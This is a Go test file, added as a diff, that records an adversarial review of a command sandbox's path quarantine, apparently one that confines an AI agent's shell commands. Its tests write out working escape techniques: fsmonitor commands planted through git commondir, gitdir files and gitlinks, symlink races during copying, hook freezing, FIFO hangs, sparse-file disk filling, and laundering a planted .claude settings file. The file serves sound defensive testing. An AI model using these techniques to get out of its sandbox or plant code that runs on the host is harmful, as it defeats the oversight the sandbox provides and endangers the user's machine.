@@ -1,0 +1,413 @@
+package sandbox
+
+// Adversarial review of the session helper's quarantine and protection of
+// paths created while commands run. Tests named TestAttack… that fail show a
+// way through; those marked "blocked" are regression tests for attacks that
+// fail today.
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"golang.org/x/sys/unix"
+)
+
+// quarantineSpec is the lab's spec with the quarantine and git's in-place paths
+// as shellgate sets them.
+func quarantineSpec(l *lab) Spec {
+	spec := l.spec()
+	spec.Protected = append(spec.Protected, filepath.Join(l.root, ".claude"))
+	spec.Quarantine = filepath.Join(l.root, ".shellgate-quarantine")
+	spec.InPlace = []string{filepath.Join(l.root, ".git/hooks"), filepath.Join(l.root, ".git/config")}
+	return spec
+}
+
+// waitFor polls until cond holds or 5s pass.
+func waitFor(t *testing.T, what string, cond func() bool) {
+	t.Helper()
+	for deadline := time.Now().Add(5 * time.Second); !cond(); time.Sleep(20 * time.Millisecond) {
+		if time.Now().After(deadline) {
+			t.Fatalf("timed out waiting for %s", what)
+		}
+	}
+}
+
+func exists(p string) bool { _, err := os.Lstat(p); return err == nil }
+
+// FINDING: .git/commondir (not protected) points git at another directory for
+// its config and hooks, so .git/config and .git/hooks being read-only protect
+// nothing: after the session, plain `git status` on the host runs the
+// command's core.fsmonitor.
+func TestAttackGitCommondir(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("no git here")
+	}
+	l := newLab(t)
+	must(t, os.RemoveAll(filepath.Join(l.root, ".git")))
+	git := func(args ...string) {
+		cmd := exec.Command("git", append([]string{"-C", l.root, "-c", "user.email=a@b", "-c", "user.name=a"}, args...)...)
+		cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "HOME="+l.home)
+		cmd.Run()
+	}
+	git("init", "-q")
+	git("commit", "-q", "--allow-empty", "-m", "x")
+	s := start(t, quarantineSpec(l))
+	pwned := filepath.Join(l.root, "PWNED")
+	run(t, s, l.root, `mkdir evil && cp -r .git/objects .git/refs evil/ &&
+printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "touch `+pwned+`; false"\n' > evil/config &&
+echo ../evil > .git/commondir`)
+	s.Close()
+	git("status")
+	if exists(pwned) {
+		t.Error("git on the host ran the command's fsmonitor through .git/commondir")
+	}
+}
+
+// FINDING: a .git that is a file ("gitdir: …") in a project that had no .git
+// does the same: nothing protected is ever created.
+func TestAttackGitFile(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("no git here")
+	}
+	l := newLab(t)
+	must(t, os.RemoveAll(filepath.Join(l.root, ".git")))
+	s := start(t, quarantineSpec(l))
+	pwned := filepath.Join(l.root, "PWNED")
+	run(t, s, l.root, `git init -q --bare evil && git -C evil config core.fsmonitor "touch `+pwned+`; false" &&
+git -C evil config core.bare false && echo 'gitdir: evil' > .git`)
+	s.Close()
+	cmd := exec.Command("git", "-C", l.root, "status")
+	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "HOME="+l.home)
+	cmd.Run()
+	if exists(pwned) {
+		t.Error("git on the host ran the command's fsmonitor through a .git file")
+	}
+}
+
+// FINDING: when the quarantine cannot be made (.shellgate-quarantine is a file,
+// or the predictable item name is taken), the new protected path falls back to
+// being protected in place: the command's .vscode stays in the project.
+func TestAttackQuarantineUnusable(t *testing.T) {
+	for _, c := range []struct{ name, prep string }{
+		{"file", "touch .shellgate-quarantine"},
+		{"item taken", `mkdir .shellgate-quarantine && for s in 0 1 2 3 4 5; do mkdir -p .shellgate-quarantine/$(date -d "+$s sec" +%Y%m%d-%H%M%S)-1-1; done`},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			l := newLab(t)
+			must(t, os.RemoveAll(filepath.Join(l.root, ".vscode")))
+			s := start(t, quarantineSpec(l))
+			run(t, s, l.root, c.prep+` && mkdir .vscode && echo '{"evil": 1}' > .vscode/tasks.json`)
+			s.Close()
+			if b, err := os.ReadFile(filepath.Join(l.root, ".vscode/tasks.json")); err == nil {
+				t.Errorf("the command's .vscode/tasks.json stayed in the root: %q", b)
+			}
+			l.outsideIntact(t, c.name)
+		})
+	}
+}
+
+// FINDING: a job that creates a protected path after its command ended and then
+// exits is taken for the user's own: kept in place at the next command, and
+// left in the project if the session just closes.
+func TestAttackJobThenExit(t *testing.T) {
+	for _, next := range []string{"next command", "close"} {
+		t.Run(next, func(t *testing.T) {
+			l := newLab(t)
+			must(t, os.RemoveAll(filepath.Join(l.root, ".vscode")))
+			s := start(t, quarantineSpec(l))
+			run(t, s, l.root, `(sleep 0.3; mkdir .vscode; echo '{"evil": 1}' > .vscode/tasks.json) >/dev/null 2>&1 &`)
+			waitFor(t, "the job's .vscode", func() bool { return exists(filepath.Join(l.root, ".vscode/tasks.json")) })
+			time.Sleep(300 * time.Millisecond) // the job has exited
+			if next == "next command" {
+				run(t, s, l.root, "true")
+			}
+			s.Close()
+			if exists(filepath.Join(l.root, ".vscode/tasks.json")) {
+				t.Error("the job's .vscode stayed in the root")
+			}
+		})
+	}
+}
+
+// FINDING: a job of an earlier command that creates a protected path while an
+// approved (KeepCreated) command runs has it kept in place as the approved
+// command's.
+func TestAttackKeepCreatedLaundering(t *testing.T) {
+	l := newLab(t)
+	must(t, os.RemoveAll(filepath.Join(l.root, ".claude")))
+	s := start(t, quarantineSpec(l))
+	run(t, s, l.root, `(while [ ! -e go ]; do sleep 0.02; done; mkdir .claude; echo '{"evil": 1}' > .claude/settings.json; sleep 30) >/dev/null 2>&1 &`)
+	run(t, s, l.root, "touch go; sleep 0.5", KeepCreated)
+	if exists(filepath.Join(l.root, ".claude/settings.json")) {
+		t.Error("the job's .claude was kept in place under the approval of another command")
+	}
+}
+
+// FINDING (.git/config): a protected path that is a FIFO makes the helper block
+// forever in open(2) in plainGitConfig, holding the mounter's lock: the
+// command's exit is never reported, nor is any later command started.
+// Blocked (.git/hooks): os.ReadDir opens with O_DIRECTORY.
+func TestAttackFIFOHangsHelper(t *testing.T) {
+	for _, name := range []string{".git/config", ".git/hooks"} {
+		t.Run(name, func(t *testing.T) {
+			l := newLab(t)
+			must(t, os.RemoveAll(filepath.Join(l.root, name)))
+			s := start(t, quarantineSpec(l))
+			cmd, out := launch(t, s, l.root, "mkfifo "+name)
+			done := make(chan struct{})
+			go func() { cmd.Wait(); out(); close(done) }()
+			select {
+			case <-done:
+			case <-time.After(5 * time.Second):
+				t.Error("the command's exit was never reported")
+				s.Close()
+				<-done
+			}
+		})
+	}
+}
+
+// FINDING: quarantining a path from a pinned directory (.git) copies it with
+// path names through .shellgate-quarantine, which the command can still change
+// while the copy runs: a job that swaps the copy's destination for a symlink
+// makes the helper write the command's files outside the writable paths.
+func TestAttackCopyTreeRace(t *testing.T) {
+	l := newLab(t)
+	must(t, os.Remove(filepath.Join(l.root, ".git/config"))) // .git stays pinned by its hooks
+	s := start(t, quarantineSpec(l))
+	script := `
+import os, sys, time, glob
+os.makedirs(".git/config")
+for i in range(4000):
+    with open(".git/config/f%05d" % i, "w") as f: f.write("x" * 4096)
+if os.fork() == 0:
+    os.setsid()
+    for fd in (0, 1, 2): os.close(fd)
+    deadline = time.time() + 20
+    while time.time() < deadline:
+        for d in glob.glob(".shellgate-quarantine/*/.git/config"):
+            if not os.path.islink(d):
+                os.rename(d, d + ".x")
+                os.symlink(sys.argv[1], d)
+                os._exit(0)
+    os._exit(0)
+`
+	run(t, s, l.root, "python3 -c '"+script+"' "+l.outside)
+	time.Sleep(2 * time.Second)
+	s.Close()
+	if entries, _ := os.ReadDir(l.outside); len(entries) > 1 {
+		t.Errorf("the helper wrote %d files outside the root", len(entries)-1)
+	}
+	l.outsideIntact(t, "copyTree race")
+}
+
+// FINDING: a sparse file quarantined out of a pinned .git is copied in full:
+// the command spends nothing, the helper fills the disk.
+func TestAttackSparseCopy(t *testing.T) {
+	l := newLab(t)
+	must(t, os.Remove(filepath.Join(l.root, ".git/config")))
+	s := start(t, quarantineSpec(l))
+	run(t, s, l.root, "truncate -s 64M .git/config")
+	got, _ := filepath.Glob(filepath.Join(l.root, ".shellgate-quarantine", "*", ".git", "config"))
+	if len(got) != 1 {
+		t.Fatalf("quarantined %v", got)
+	}
+	var st unix.Stat_t
+	must(t, unix.Stat(got[0], &st))
+	if st.Blocks*512 > 1<<20 {
+		t.Errorf("the copy of a 64M sparse file takes %d bytes", st.Blocks*512)
+	}
+}
+
+// Blocked (regression): git config forms that would run code are not taken
+// for plain ones, and hooks entries other than git's samples are quarantined.
+func TestAttackGitConfigParsingBlocked(t *testing.T) {
+	for _, c := range []string{
+		"[core] fsmonitor = x\n",
+		"[core]\n\tFsMonitor = x\n",
+		"[Core]\n\tsshCommand = x\n",
+		"[include]\n\tpath = ../evil\n",
+		"[includeIf \"gitdir:/\"]\n\tpath = ../evil\n",
+		"[remote \"o\"]\n\tuploadpack = x\n",
+		"[remote \"a]b\"]\n\turl = x\n",
+		"[core.x]\n\tfsmonitor = x\n",
+		"[core]\n\tbare = false\n[alias]\n\tst = !x\n",
+		"[core]\n\tpager = x\n",
+		"[user]\n\tname = a \\\n\tfsmonitor = x\n", // a continuation: a value to git, a key here
+		"[core]\n\thooksPath = x\n",
+		"[diff \"x\"]\n\ttextconv = x\n",
+		"\ufeff[core]\n\tfsmonitor = x\n",
+	} {
+		p := filepath.Join(t.TempDir(), "config")
+		must(t, os.WriteFile(p, []byte(c), 0o644))
+		if plainGitConfig(p) {
+			t.Errorf("taken for plain: %q", c)
+		}
+	}
+	dir := filepath.Join(t.TempDir(), "hooks")
+	must(t, os.Mkdir(dir, 0o755))
+	must(t, os.Symlink("/bin/true", filepath.Join(dir, "pre-commit.sample")))
+	if !runsCode(dir) {
+		t.Error("a symlinked .sample hook passed")
+	}
+}
+
+// Blocked (regression): a .shellgate-quarantine that is a symlink to a
+// directory of the root (or the root itself) does not make the helper move the
+// command's .vscode there or make that directory read-only.
+func TestAttackQuarantineSymlinkInRootBlocked(t *testing.T) {
+	l := newLab(t)
+	must(t, os.RemoveAll(filepath.Join(l.root, ".vscode")))
+	must(t, os.MkdirAll(filepath.Join(l.root, "src"), 0o755))
+	s := start(t, quarantineSpec(l))
+	run(t, s, l.root, "ln -s src .shellgate-quarantine && mkdir .vscode")
+	if got, code := run(t, s, l.root, "echo ok > src/x && echo ok > y && cat src/x y"); code != 0 || got != "ok\nok\n" {
+		t.Errorf("the project is no longer writable: %d %q", code, got)
+	}
+	if entries, _ := os.ReadDir(filepath.Join(l.root, "src")); len(entries) != 1 {
+		t.Errorf("src holds %v", entries)
+	}
+}
+
+// FINDING: runsCode checks .git/hooks (and .git/config) by path, and bind then
+// binds whatever is there: a job that keeps adding and removing a hook while
+// git init's command ends gets it frozen read-only in place.
+func TestAttackHooksCheckRace(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("no git here")
+	}
+	script := `
+import os, time
+os.makedirs(".git/hooks", exist_ok=True)
+open(".git/evil", "w").write("#!/bin/sh\necho pwned\n")
+if os.fork() == 0:
+    os.setsid()
+    for fd in (0, 1, 2): os.close(fd)
+    deadline = time.time() + 3
+    while time.time() < deadline:
+        try:
+            os.link(".git/evil", ".git/hooks/pre-commit")
+            os.unlink(".git/hooks/pre-commit")
+        except OSError:
+            pass
+    os._exit(0)
+time.sleep(0.2)
+`
+	for attempt := 0; attempt < 10; attempt++ {
+		l := newLab(t)
+		must(t, os.RemoveAll(filepath.Join(l.root, ".git")))
+		s := start(t, quarantineSpec(l))
+		run(t, s, l.root, "git init -q && python3 -c '"+script+"'")
+		time.Sleep(50 * time.Millisecond)
+		hooks := filepath.Join(l.root, ".git/hooks")
+		frozen := exists(filepath.Join(hooks, "pre-commit"))
+		time.Sleep(3 * time.Second) // the job is done
+		s.Close()
+		if frozen && exists(filepath.Join(hooks, "pre-commit")) {
+			t.Fatalf("attempt %d: the job's pre-commit hook is in .git/hooks, protected in place", attempt)
+		}
+		os.RemoveAll(l.base)
+	}
+}
+
+// FINDING: a quarantine whose copy fails (a path deeper than PATH_MAX under a
+// .git/hooks created in a pinned .git) falls back to protecting the hooks in
+// place, pre-commit hook and all.
+func TestAttackDeepTreeCopyFails(t *testing.T) {
+	l := newLab(t)
+	must(t, os.RemoveAll(filepath.Join(l.root, ".git/hooks"))) // .git stays pinned by its config
+	s := start(t, quarantineSpec(l))
+	run(t, s, l.root, `mkdir .git/hooks && printf '#!/bin/sh\necho pwned\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit &&
+python3 -c 'import os
+os.chdir(".git/hooks")
+for i in range(200):
+    os.mkdir("d" * 40); os.chdir("d" * 40)'`)
+	s.Close()
+	if exists(filepath.Join(l.root, ".git/hooks/pre-commit")) {
+		t.Error("the command's pre-commit hook stayed in .git/hooks")
+	}
+}
+
+// FINDING: .git/index is not protected, nor is the config of a repository
+// nested in the project: a gitlink entry for a nested repository makes plain
+// `git status` on the host run that repository's core.fsmonitor.
+func TestAttackNestedRepoGitlink(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("no git here")
+	}
+	l := newLab(t)
+	must(t, os.RemoveAll(filepath.Join(l.root, ".git")))
+	env := append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "HOME="+l.home)
+	cmd := exec.Command("git", "-C", l.root, "init", "-q")
+	cmd.Env = env
+	must(t, cmd.Run())
+	s := start(t, quarantineSpec(l))
+	pwned := filepath.Join(l.root, "PWNED")
+	run(t, s, l.root, `git init -q sub && git -C sub -c user.email=a@b -c user.name=a commit -q --allow-empty -m y &&
+git -C sub config core.fsmonitor "touch `+pwned+`; false" &&
+git update-index --add --cacheinfo 160000,$(git -C sub rev-parse HEAD),sub`)
+	s.Close()
+	cmd = exec.Command("git", "-C", l.root, "status")
+	cmd.Env = env
+	cmd.Run()
+	if exists(pwned) {
+		t.Error("git on the host ran a nested repository's fsmonitor through a gitlink in .git/index")
+	}
+}
+
+// FINDING (minor): a file quarantined with another hard link in the root can
+// still be changed through that link: the read-only item does not freeze what
+// the user will review.
+func TestAttackQuarantineHardLink(t *testing.T) {
+	l := newLab(t)
+	must(t, os.RemoveAll(filepath.Join(l.root, ".vscode")))
+	s := start(t, quarantineSpec(l))
+	run(t, s, l.root, `mkdir .vscode && echo '{}' > .vscode/tasks.json && ln .vscode/tasks.json keep`)
+	run(t, s, l.root, `echo '{"evil": 1}' > keep`)
+	got, _ := filepath.Glob(filepath.Join(l.root, ".shellgate-quarantine", "*", ".vscode", "tasks.json"))
+	if len(got) != 1 {
+		t.Fatalf("quarantined %v", got)
+	}
+	if b, _ := os.ReadFile(got[0]); string(b) != "{}\n" {
+		t.Errorf("the quarantined file changed after it was quarantined: %q", b)
+	}
+}
+
+// Not reproduced (kept as a regression test): bind resolves a protected symlink
+// by name and then opens the result by name, so a job swapping a directory on
+// the way for a symlink could make the helper bind a directory outside the
+// writable paths read-only in the session (~/.cache/go-build would break its
+// builds). The window between EvalSymlinks and open is too short to hit here.
+func TestAttackBindResolveRace(t *testing.T) {
+	l := newLab(t)
+	must(t, os.RemoveAll(filepath.Join(l.root, ".vscode")))
+	s := start(t, quarantineSpec(l))
+	script := `
+import os, ctypes, time
+libc = ctypes.CDLL(None, use_errno=True)
+os.makedirs("d/outside")
+os.symlink("` + l.base + `", "e")
+if os.fork() == 0:
+    os.setsid()
+    for fd in (0, 1, 2): os.close(fd)
+    deadline = time.time() + 20
+    while time.time() < deadline:
+        libc.syscall(316, -100, b"d", -100, b"e", 2)  # renameat2 RENAME_EXCHANGE
+    os._exit(0)
+`
+	run(t, s, l.root, "touch .shellgate-quarantine && python3 -c '"+script+"'")
+	for i := 0; i < 200; i++ {
+		if i%2 == 0 {
+			run(t, s, l.root, "ln -sfn d/outside .vscode")
+		} else {
+			run(t, s, l.root, "true")
+		}
+		if got, _ := run(t, s, l.root, "grep -c ' "+l.outside+" ' /proc/self/mountinfo"); strings.TrimSpace(got) != "0" {
+			t.Fatalf("after %d commands, the helper bound %s (outside the root) in the session", i+1, l.outside)
+		}
+	}
+}
